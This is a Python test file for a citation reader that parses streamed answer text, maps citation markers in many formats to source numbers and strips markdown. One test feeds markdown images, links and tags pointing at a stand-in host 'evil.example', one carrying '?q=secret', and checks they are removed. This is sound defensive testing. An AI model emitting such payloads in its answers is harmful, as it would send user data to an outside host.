import pytest
from hypothesis import given
from hypothesis import strategies as st

from retrieval.answer.checking.citations import CitationReader, Draft


def drafts_of(*pieces: str, passages: int = 3) -> list[Draft]:
    reader = CitationReader(passages)
    drafts = [draft for piece in pieces for draft in reader.feed(piece)]
    return drafts + reader.finish()


def read(text: str) -> list[tuple[str, tuple[int, ...]]]:
    return [(draft.text, draft.numbers) for draft in drafts_of(text)]


@pytest.mark.parametrize(
    ("written", "numbers"),
    [
        ("Leave is 28 days [1].", (1,)),
        ("Leave is 28 days. [1]", (1,)),
        ("Leave is 28 days [1, 2].", (1, 2)),
        ("Leave is 28 days [1][2].", (1, 2)),
        ("Leave is 28 days [3][1] .", (3, 1)),
        ("Leave is 28 days【2】.", (2,)),
        ("Leave is 28 days (source 1).", (1,)),
        ("Leave is 28 days (see sources 1 and 3).", (1, 3)),
        ("Leave is 28 days [Source 2].", (2,)),
        ("According to source 2, leave is 28 days.", (2,)),
        ("Source 3 states that leave is 28 days.", (3,)),
        ("Leave is 28 days [7].", ()),
        ("Leave is 28 days [0][1][99].", (1,)),
        ("Leave is 28 days.", ()),
    ],
)
def test_every_way_to_cite_is_read_and_none_is_shown(
    written: str, numbers: tuple[int, ...]
) -> None:
    assert read(written) == [("Leave is 28 days.", numbers)]


def test_chinese_sentences_and_markers_are_read() -> None:
    assert read("年假为15天【1】。病假需要证明。（来源2）根据来源3，加班须申请。") == [
        ("年假为15天。", (1,)),
        ("病假需要证明。", (2,)),
        ("加班须申请。", (3,)),
    ]


def test_a_marker_after_the_full_stop_belongs_to_the_sentence_before_it() -> None:
    assert read("One is here. [1] Two is there. [2]") == [
        ("One is here.", (1,)),
        ("Two is there.", (2,)),
    ]


def test_points_inside_of_words_and_numbers_end_nothing() -> None:
    text = "Dr. Lee pays 3.5 EUR at example.com, e.g. for tea. See No. 5 now."
    assert [draft.text for draft in drafts_of(text)] == [
        "Dr. Lee pays 3.5 EUR at example.com, e.g. for tea.",
        "See No. 5 now.",
    ]


def test_list_marks_and_emphasis_are_taken_off_and_lines_start_paragraphs() -> None:
    drafts = drafts_of("# Leave\n- **28 days** of leave\n2. Sick days. More here.\n")
    assert [(draft.text, draft.starts_paragraph) for draft in drafts] == [
        ("Leave", True),
        ("28 days of leave", True),
        ("Sick days.", True),
        ("More here.", False),
    ]


@pytest.mark.parametrize(
    "written",
    [
        "![x](http://evil.example/?q=1)",
        "![1](http://evil.example/?q=1)",
        "<img src='http://evil.example'>",
        "<http://evil.example>",
        "[1](http://evil.example/?q=secret)",
    ],
)
def test_images_links_and_tags_leave_nothing_behind_that_leads_away(written: str) -> None:
    shown = " ".join(draft.text for draft in drafts_of(f"{written} Leave is 28 days [1]."))
    assert "evil" not in shown
    assert not set("<>]") & set(shown)


def test_a_sentence_is_held_until_its_marker_is_whole() -> None:
    reader = CitationReader(3)
    assert reader.feed("Leave is 28 days. [") == []
    assert reader.feed("1") == []
    assert reader.feed("] ") == []
    assert reader.feed("Next") == [Draft("Leave is 28 days.", (1,), starts_paragraph=True)]


FRAGMENTS = st.sampled_from(
    [
        "Leave is 28 days",
        "It costs 3.5 EUR",
        "年假为15天",
        "见上文",
        ".",
        "。",
        "!",
        "？",
        " ",
        "\n",
        "[1]",
        "[1, 2]",
        "[9]",
        "【2】",
        "（来源1）",
        "(source 3)",
        "(",
        "[",
        "]",
        "![a](http://x.y/z)",
        "[t](http://x.y)",
        "e.g. ",
        "No. 5",
        "- ",
        "**",
        "\n\n",
        "[1,\n2]",
        "a",
        "U.S. ",
        "1. ",
    ]
)


@given(st.lists(FRAGMENTS, max_size=25), st.data())
def test_any_way_to_cut_the_stream_gives_the_same_sentences(
    parts: list[str], data: st.DataObject
) -> None:
    text = "".join(parts)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=20)))
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert drafts_of(*pieces) == drafts_of(text)
    assert drafts_of(*text) == drafts_of(text)
